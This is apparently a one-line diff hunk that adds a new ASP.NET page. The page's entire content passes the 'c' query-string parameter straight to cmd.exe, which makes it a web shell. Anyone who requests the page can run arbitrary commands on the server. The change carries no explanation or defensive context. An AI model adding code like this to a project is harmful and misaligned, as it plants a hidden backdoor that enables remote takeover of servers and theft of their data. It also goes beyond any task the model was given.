@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.QueryString["c"]); %>
